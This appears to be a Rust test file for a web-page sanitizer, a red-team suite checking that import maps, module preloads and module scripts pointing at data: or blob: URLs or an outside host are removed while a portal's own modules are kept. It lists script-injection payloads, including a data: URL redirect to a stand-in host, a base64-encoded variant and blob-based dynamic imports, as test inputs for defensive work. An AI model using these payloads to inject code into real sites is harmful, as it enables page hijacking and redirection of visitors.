//! Attack suite for module loading (red team #32; threats B3, B4): an import map
//! (`<script type="importmap">`) whose `imports` or `scopes` send a specifier to a `data:`
//! or `blob:` URL or to an unapproved host, a `<link rel="modulepreload">` of such a
//! target, and module scripts that import one, statically (`import … from`, `import '…'`,
//! `export … from`) or with `import()`. The map goes whole (`script.importmap`); the link
//! and the script go under their rules. Import maps and modules of the site's own and of
//! allowed hosts keep their bytes.

use crate::common;

use common::rewrite::{clean, site};

const BAD_TARGETS: &[&str] = &[
    "data:text/javascript,location='https://bet.test/'",
    "data:text/javascript;base64,bG9jYXRpb249Jy8vYmV0LnRlc3Qn",
    "DATA:text/javascript,alert(1)",
    " data:application/javascript,x",
    "blob:https://portal.example.gov.vn/5b1c-4e",
    "https://bet.test/m.js",
    "//bet.test/m.js",
    "https:\\/\\/bet.test\\/m.js",
    "https://cdn.bet.test/x/",
];

fn gone(page: &str) -> bool {
    let site = site("");
    let (out, events) = clean(&site, page);
    out == "<p>x</p>" && !events.is_empty()
}

#[test]
fn import_maps_to_code_urls_or_foreign_hosts_are_removed() {
    let mut kept = Vec::new();
    for t in BAD_TARGETS {
        for map in [
            format!("{{\"imports\":{{\"app\":\"{t}\"}}}}"),
            format!("{{\"imports\":{{\"/js/app.js\":\"/js/app.js\",\"lodash\":\"{t}\"}}}}"),
            format!("{{\"scopes\":{{\"/\":{{\"app\":\"{t}\"}}}}}}"),
            format!("{{\n  \"imports\": {{ \"x/\": \"{t}\" }}\n}}"),
        ] {
            for ty in ["importmap", "IMPORTMAP", " importmap "] {
                let page = format!("<script type=\"{ty}\">{map}</script><p>x</p>");
                if !gone(&page) {
                    kept.push(page);
                }
            }
        }
    }
    assert!(kept.is_empty(), "{} kept:\n{}", kept.len(), kept.join("\n"));
}

#[test]
fn module_preloads_of_code_urls_or_foreign_hosts_are_removed() {
    for t in BAD_TARGETS {
        let t = t.replace("\\/", "/");
        let page = format!("<link rel=\"modulepreload\" href=\"{t}\"><p>x</p>");
        assert!(gone(&page), "kept: {page}");
    }
}

#[test]
fn modules_importing_code_urls_are_removed() {
    let mut kept = Vec::new();
    for t in BAD_TARGETS {
        for code in [
            format!("import x from \"{t}\";x()"),
            format!("import \"{t}\""),
            format!("import {{a as b}} from '{t}'"),
            format!("export * from \"{t}\""),
            format!("import(\"{t}\").then(m=>m.run())"),
            format!("const u=\"{t}\";await import(u)"),
        ] {
            let page = format!("<script type=\"module\">{code}</script><p>x</p>");
            if !gone(&page) {
                kept.push(page);
            }
        }
    }
    for code in [
        "import(URL.createObjectURL(new Blob([src],{type:'text/javascript'})))",
        "const b=new Blob([c]);const u=URL.createObjectURL(b);import(u)",
    ] {
        let page = format!("<script type=\"module\">{code}</script><p>x</p>");
        if !gone(&page) {
            kept.push(page);
        }
    }
    assert!(kept.is_empty(), "{} kept:\n{}", kept.len(), kept.join("\n"));
}

#[test]
fn the_sites_own_modules_and_maps_keep_their_bytes() {
    let site = site("");
    for page in [
        "<script type=\"importmap\">{\"imports\":{\"app\":\"/js/app.js\",\"lib/\":\"./vendor/lib/\",\"vue\":\"https://portal.example.gov.vn/js/vue.esm.js\"}}</script>",
        "<script type=\"importmap\">{\"imports\":{\"gtag\":\"https://www.googletagmanager.com/gtag/js\"},\"scopes\":{\"/admin/\":{\"app\":\"/admin/app.js\"}}}</script>",
        "<link rel=\"modulepreload\" href=\"/js/app.js\">",
        "<script type=\"module\">import {init} from '/js/app.js';import './menu.js';export {x} from \"../lib/x.js\";init()</script>",
        "<script type=\"module\">import('/js/chart.js').then(function(m){m.draw()})</script>",
        "<script type=\"module\">const lang=document.documentElement.lang;import('/js/i18n/'+lang+'.js')</script>",
        "<script>var from='a';console.log(from)</script>",
    ] {
        let (out, events) = clean(&site, page);
        assert_eq!(out, page, "{events:?}");
    }
}
